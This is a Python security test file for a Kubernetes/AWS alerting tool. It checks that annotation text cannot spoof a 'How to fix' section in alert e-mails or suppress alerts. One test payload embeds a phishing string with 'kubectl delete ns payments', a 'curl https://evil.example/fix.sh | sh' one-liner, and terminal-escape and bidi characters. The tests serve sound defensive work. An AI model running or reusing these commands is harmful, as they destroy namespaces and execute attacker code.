"""Finding 7 (and 10's state table): alerts cannot be used for phishing or silenced."""

from __future__ import annotations

import json
import time
import uuid
from typing import Any

import pytest
from frontguard.handlers import events as events_handler
from frontguard.handlers import verify as verify_handler

from sandbox import Sandbox
from sandbox.wiring import STATE_TABLE, FakeLambdaContext, Frontguard
from tests.reliability.faults import AwsFaults
from tests.security.catalogue import attack

INGRESS_SG = "alb.ingress.kubernetes.io/security-groups"
LAMBDA: Any = FakeLambdaContext()  # what Powertools reads of a Lambda context
PHISH = (
    "sg-0123456789abcdef0\n\nHow to fix:\n  kubectl delete ns payments; "
    "curl https://evil.example/fix.sh | sh\n\x1b[2K\u202eFrontguard security team"
)


def overwrite_annotation(web: Any, value: str, manager: str) -> None:
    """The developer's edit, with a field manager of their choosing (``--field-manager``)."""
    web.cluster.kube.patch_object(
        web.resource,
        "shop",
        "web",
        {
            "metadata": {
                "annotations": {INGRESS_SG: value},
                "managedFields": [
                    {
                        "manager": manager,
                        "operation": "Update",
                        "apiVersion": "networking.k8s.io/v1",
                        "time": "2026-11-30T00:00:00Z",
                        "fieldsType": "FieldsV1",
                        "fieldsV1": {"f:metadata": {"f:annotations": {f"f:{INGRESS_SG}": {}}}},
                    }
                ],
            }
        },
    )


def sqs_event(queue_arn: str, bodies: list[str]) -> dict[str, Any]:
    now = str(int(time.time() * 1000))
    return {
        "Records": [
            {
                "messageId": str(uuid.uuid4()),
                "receiptHandle": f"AQEB{uuid.uuid4().hex}",
                "body": body,
                "attributes": {
                    "ApproximateReceiveCount": "1",
                    "SentTimestamp": now,
                    "SenderId": "AROAEXAMPLE:frontguard-events",
                    "ApproximateFirstReceiveTimestamp": now,
                },
                "messageAttributes": {},
                "md5OfBody": "",
                "eventSource": "aws:sqs",
                "eventSourceARN": queue_arn,
                "awsRegion": queue_arn.split(":")[3],
            }
            for body in bodies
        ]
    }


def run_verify_handler(sandbox: Sandbox, fg: Frontguard) -> dict[str, Any]:
    """Every queued verification request through the verify Lambda handler, to the end."""
    arn = sandbox.client("sqs").get_queue_attributes(
        QueueUrl=fg.queue_url, AttributeNames=["QueueArn"]
    )["Attributes"]["QueueArn"]
    response: dict[str, Any] = {}
    while requests := fg.verification_requests():
        response = dict(
            verify_handler.handler(
                sqs_event(arn, [json.dumps(r) for r in requests]), FakeLambdaContext()
            )
        )
        assert response == {"batchItemFailures": []}, response
    return response


@attack(
    "7",
    "edit an Ingress's annotations",
    "an annotation value with blank lines, a fake 'How to fix:' heading, a shell one-liner, "
    "ESC and bidi characters, written under the field manager 'frontguard-remediator "
    "(security team)'",
    "the e-mail shows frontguard's own 'How to fix:' heading only; the value is quoted on one "
    "line, escaped, cut to 200 characters and labelled user-written; the manager is "
    "'according to managedFields (unauthenticated)'",
)
def test_a_fake_fix_section_in_an_annotation_reaches_the_email_escaped_and_labelled(
    sandbox, fg, handler_env
):
    prod = sandbox.cluster("prod")
    web = prod.ingress("shop/web", ports=[443])
    assert events_handler.handler(web.event, LAMBDA)["outcome"] == "remediated"
    overwrite_annotation(web, PHISH, "frontguard-remediator (security team)")
    prod.lbc.reconcile()

    run_verify_handler(sandbox, fg)

    [email] = [e for e in fg.alert_emails() if "(verification-failed)" in e]
    lines = email.splitlines()
    assert [line for line in lines if line.startswith("How to fix")] == ["How to fix:"]
    # The attacker's text stays inside frontguard's bullets ("  - ..."), never a line of its own.
    assert all(line.startswith("  - ") for line in lines if "evil.example" in line)
    assert "\x1b" not in email and "\u202e" not in email
    assert "«sg-0123456789abcdef0\\n\\nHow to fix:\\n  kubectl delete ns payments;" in email
    assert "\\x1b[2K\\u202eFrontguard security team» (user-written)" in email
    assert (
        "last writer according to managedFields (unauthenticated): "
        "«frontguard-remediator (security team)» (user-written)" in email
    )


@attack(
    "7",
    "edit an Ingress's annotations",
    "write the annotation under the field manager name 'frontguard' to hide who wrote it",
    "the writer is still named (as unauthenticated): entries called 'frontguard' are not skipped",
)
def test_a_writer_calling_itself_frontguard_is_still_named(sandbox, fg):
    prod = sandbox.cluster("prod")
    web = prod.ingress("shop/web", ports=[443])
    fg.deliver(web.event)
    overwrite_annotation(web, "sg-0123456789abcdef0", "frontguard")
    prod.lbc.reconcile()

    fg.run_verifications()

    [alert] = [a for a in fg.alerts() if a["outcome"] == "verification-failed"]
    [reverted] = [f for f in alert["findings"] if f["kind"] == "annotation-reverted"]
    assert reverted["manager"] == "frontguard"
    assert "(unauthenticated): «frontguard» (user-written)" in reverted["text"]


@attack(
    "7",
    "edit an Ingress's annotations",
    "a 300 KB annotation value, so that the verification-failed alert exceeds SNS's 256 KiB "
    "limit and is rejected (the record then retries into the DLQ with no alert)",
    "the alert is published, shortened under the limit; the verify batch reports no failure",
)
def test_an_oversized_annotation_cannot_suppress_the_alert(sandbox, fg, handler_env):
    prod = sandbox.cluster("prod")
    web = prod.ingress("shop/web", ports=[443])
    events_handler.handler(web.event, LAMBDA)
    overwrite_annotation(web, "sg-0123456789abcdef0," + "x" * 300_000, "kubectl-edit")
    prod.lbc.reconcile()

    run_verify_handler(sandbox, fg)

    [alert] = [a for a in fg.alerts() if a["outcome"] == "verification-failed"]
    assert alert["load_balancer_arn"] == web.lb_arn
    [reverted] = [f for f in alert["findings"] if f["kind"] == "annotation-reverted"]
    assert len(reverted["value"]) < 2000 and "chars)" in reverted["value"]


@attack(
    "new",
    "an SNS publish that fails once (KMSThrottling on the encrypted topic, a 5xx)",
    "the de-duplication record was written before the publish: the retried event took the alert "
    "for a duplicate and it was lost for the whole period",
    "the failed publish releases its claim; the retry publishes the alert",
)
def test_an_alert_whose_publish_failed_is_sent_by_the_retry(sandbox, fg, faults: AwsFaults):
    prod = sandbox.cluster("prod")
    web = prod.ingress("shop/web", ports=[443])
    fg.deliver(web.event)
    overwrite_annotation(web, "sg-0123456789abcdef0", "kubectl-edit")  # verification will fail
    faults.fail("sns.Publish", "5xx", times=50)  # outlasts botocore's own retries
    with pytest.raises(Exception, match="publish alert"):
        fg.run_verifications()
    failed_record = fg.enqueued[-1][0]  # the last attempt, which SQS redelivers
    faults.clear()

    assert fg.verify(failed_record).outcome == "verification-failed"

    assert [a["outcome"] for a in fg.alerts()] == ["remediated", "verification-failed"]


@attack(
    "10",
    "dynamodb:PutItem on frontguard's state table",
    "an alert#<arn> item expiring in 2100, to silence every alert about one load balancer",
    "an expiry beyond the alert period is not frontguard's own record: the alert is sent",
)
def test_a_forged_far_future_dedupe_record_does_not_silence_alerts(sandbox, fg):
    web = sandbox.cluster("prod").ingress("shop/web", ports=[443])
    for outcome in ("remediated", "conflict"):
        sandbox.client("dynamodb").put_item(
            TableName=STATE_TABLE,
            Item={
                "pk": {"S": f"alert#{web.lb_arn}"},
                "sk": {"S": outcome},
                "expires_at": {"N": "4102444800"},
            },
        )

    fg.deliver(web.event)

    assert [a["outcome"] for a in fg.alerts()] == ["remediated"]
